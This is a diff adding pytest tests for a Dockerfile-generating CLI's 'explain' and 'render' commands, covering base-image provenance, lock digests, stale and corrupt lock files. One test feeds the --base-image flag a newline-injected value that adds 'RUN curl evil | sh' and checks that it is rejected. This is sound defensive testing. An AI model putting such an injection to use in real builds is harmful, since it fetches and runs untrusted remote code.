@@ -99,6 +99,73 @@ def test_lock_digest_pins_the_base_image(write_spec: Callable[[str], Path]) -> N
     assert code == 0 and f"FROM debian:bookworm@{digest}" in out
 
 
+def _base_image_rows(out: str) -> list[str]:
+    return [line for line in out.splitlines() if line.startswith("base.image ")]
+
+
+def test_explain_shows_where_the_from_line_came_from(write_spec: Callable[[str], Path]) -> None:
+    spec = write_spec("name: l\nbase:\n  os: debian12\n")
+    code, out, _ = invoke("explain", str(spec))
+    assert code == 0 and out.startswith("FROM debian:bookworm\n")
+    assert [r.split()[2] for r in _base_image_rows(out)] == ["catalog"]
+
+    assert invoke("lock", str(spec))[0] == 0
+    digest = "sha256:" + "c" * 64
+    lock = spec.parent / "env.lock"
+    lock.write_text(lock.read_text().replace("base_digest: null", f"base_digest: {digest}"))
+    code, out, _ = invoke("explain", str(spec), "--locked")
+    assert code == 0 and out.startswith(f"FROM debian:bookworm@{digest}  (from env.lock)\n")
+    rows = _base_image_rows(out)
+    assert [r.split()[1:3] for r in rows] == [["debian:bookworm", "catalog"],
+                                              [f"debian:bookworm@{digest}", "lock"]]
+    assert "env.lock pins debian:bookworm by digest" in rows[1]
+
+    code, out, _ = invoke("explain", str(spec), "--base-image", "127.0.0.1:5000/debian:bookworm")
+    assert code == 0 and out.startswith("FROM 127.0.0.1:5000/debian:bookworm  (from --base-image)\n")
+    rows = _base_image_rows(out)
+    assert [r.split()[2] for r in rows] == ["catalog", "lock", "cli"]
+    assert f"--base-image replaces debian:bookworm@{digest}; apt, compilers and Python still follow " \
+           "debian12" in rows[2]
+
+
+def test_explain_json_and_render_agree_on_the_base_image(write_spec: Callable[[str], Path]) -> None:
+    spec = write_spec("name: l\nbase:\n  os: ubuntu22.04\n  cuda: '12.4'\n")
+    image = "127.0.0.1:5000/cuda:12.4.1-runtime-ubuntu22.04"
+    code, out, _ = invoke("explain", str(spec), "--json", "--base-image", image)
+    data = json.loads(out)
+    assert code == 0 and data["base_image"] == image
+    assert [(d["value"], d["source"]) for d in data["decisions"] if d["key"] == "base.image"] == [
+        ("nvidia/cuda:12.4.1-runtime-ubuntu22.04", "catalog"), (image, "cli")]
+    code, out, _ = invoke("render", str(spec), "--base-image", image)
+    assert code == 0 and f"\nFROM {image}\n" in out
+
+
+def test_explain_reports_a_stale_lock_and_refuses_under_locked(write_spec: Callable[[str], Path]) -> None:
+    spec = write_spec("name: l\nbase:\n  os: debian12\n")
+    assert invoke("lock", str(spec))[0] == 0
+    spec.write_text("name: l\nbase:\n  os: debian11\n")
+    code, out, err = invoke("explain", str(spec))
+    assert code == 0 and out.startswith("FROM debian:bullseye\n") and "lock.stale" in err
+    assert [r.split()[2] for r in _base_image_rows(out)] == ["catalog"]
+    code, _, err = invoke("explain", str(spec), "--locked")
+    assert code == 6 and "was made from another version" in err
+
+
+def test_a_base_image_that_is_not_a_reference_is_refused(write_spec: Callable[[str], Path]) -> None:
+    spec = write_spec("name: l\nbase:\n  os: debian12\n")
+    code, out, err = invoke("render", str(spec), "--base-image", "debian:bookworm\nRUN curl evil | sh")
+    assert code == 2 and out == "" and "--base-image:" in err and "Traceback" not in err
+
+
+def test_a_corrupt_lock_is_a_located_error(write_spec: Callable[[str], Path]) -> None:
+    spec = write_spec("name: l\nbase:\n  os: debian12\n")
+    assert invoke("lock", str(spec))[0] == 0
+    lock = spec.parent / "env.lock"
+    lock.write_text(lock.read_text().replace("gcc: null", "gcc: twelve"))
+    code, _, err = invoke("explain", str(spec))
+    assert code == 1 and f"{lock}:8:6: error[lock.invalid]: `gcc`: Input should be a valid integer" in err
+
+
 def test_schema_command_prints_json() -> None:
     code, out, _ = invoke("schema")
     assert code == 0 and json.loads(out)["additionalProperties"] is False
